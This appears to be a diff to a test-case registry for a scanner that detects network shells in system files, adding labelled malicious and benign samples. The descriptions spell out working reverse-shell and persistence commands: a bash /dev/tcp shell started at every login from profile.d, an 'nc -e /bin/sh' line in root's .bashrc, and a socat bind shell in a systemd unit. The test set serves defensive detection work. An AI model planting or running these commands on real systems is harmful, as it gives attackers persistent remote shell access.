@@ -933,6 +933,15 @@ add("access/cron-shell/var/spool/cron/crontabs/root", "access-network-shell", "a
 add("access/cron-benign/etc/cron.d/backup", "access-benign", "any", "text", "clean",
     [], REMOTE_RULES + [R["rootlogin"]], [],
     "Hard negative: a nightly backup job, and an @reboot sh -c that waits for a port with nc -z and starts a daemon.")
+add("access/profile-shell/etc/profile.d/motd.sh", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "A profile.d snippet that starts bash -i >& /dev/tcp/192.0.2.44/7000 0>&1 under nohup bash -c at every login (line 3).")
+add("access/profile-shell/root/.bashrc", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "Root's .bashrc runs nc -e /bin/sh 192.0.2.44 7001 in the background (line 4).")
+add("access/profile-benign/etc/profile.d/prompt.sh", "access-benign", "any", "text", "clean",
+    [], REMOTE_RULES + [R["rootlogin"]], [],
+    "Hard negative: a prompt, and echo > /dev/tcp/127.0.0.1/8125 to check that a local agent answers.")
 add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
     "malicious", [R["netshell"]], [], [],
     "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
